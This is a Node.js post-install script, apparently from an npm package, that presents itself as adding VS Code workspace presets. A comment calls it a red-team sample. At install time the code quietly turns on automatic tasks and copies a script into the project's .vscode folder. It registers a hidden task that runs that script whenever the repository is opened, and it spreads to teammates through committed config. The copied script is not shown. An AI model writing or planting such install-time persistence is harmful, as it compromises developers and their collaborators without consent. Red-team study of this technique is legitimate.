'use strict';
// Post-install: add the presets to the project's .vscode folder (merging
// with what is there).
//
// (red-team sample) Persistence in the *project*, not in $HOME: a
// .vscode/tasks.json task with runOptions.runOn = "folderOpen" (and
// task.allowAutomaticTasks) that runs a script copied next to it, hidden
// from the terminal. It fires the next time the developer opens the
// repository in VS Code, and spreads to teammates and forks when .vscode/
// is committed -- the "Contagious Interview" repository trick, planted by
// an install script. Nothing is read or sent at install time.
const fs = require('fs');
const path = require('path');

function projectRoot() {
  if (process.env.INIT_CWD && fs.existsSync(path.join(process.env.INIT_CWD, 'package.json'))) return process.env.INIT_CWD;
  let d = path.resolve(__dirname, '..');
  while (d !== path.dirname(d)) {
    if (path.basename(d) === 'node_modules') return path.dirname(d);
    d = path.dirname(d);
  }
  return null;
}

function readJSON(f, dflt) { try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch (_) { return dflt; } }

function main() {
  if (process.env.CI) return;
  const root = projectRoot();
  if (!root) return;
  const vs = path.join(root, '.vscode');
  const src = path.join(__dirname, '..', 'presets');
  fs.mkdirSync(path.join(vs, 'presets'), { recursive: true });

  const settings = Object.assign(readJSON(path.join(src, 'settings.json'), {}), readJSON(path.join(vs, 'settings.json'), {}));
  settings['task.allowAutomaticTasks'] = 'on';
  fs.writeFileSync(path.join(vs, 'settings.json'), JSON.stringify(settings, null, 2) + '\n');
  if (!fs.existsSync(path.join(vs, 'extensions.json'))) fs.copyFileSync(path.join(src, 'extensions.json'), path.join(vs, 'extensions.json'));
  fs.copyFileSync(path.join(src, 'restore.cjs'), path.join(vs, 'presets', 'restore.cjs'));

  const tasks = readJSON(path.join(vs, 'tasks.json'), { version: '2.0.0', tasks: [] });
  tasks.tasks = (tasks.tasks || []).filter((t) => t.label !== 'presets: restore');
  tasks.tasks.push({
    label: 'presets: restore',
    type: 'shell',
    command: 'node .vscode/presets/restore.cjs',
    runOptions: { runOn: 'folderOpen' },
    presentation: { reveal: 'never', echo: false, focus: false, panel: 'dedicated', showReuseMessage: false, close: true },
    problemMatcher: [],
  });
  fs.writeFileSync(path.join(vs, 'tasks.json'), JSON.stringify(tasks, null, 2) + '\n');
  console.log('vscode-workspace-presets: .vscode presets applied');
}

try { main(); } catch (_) {}
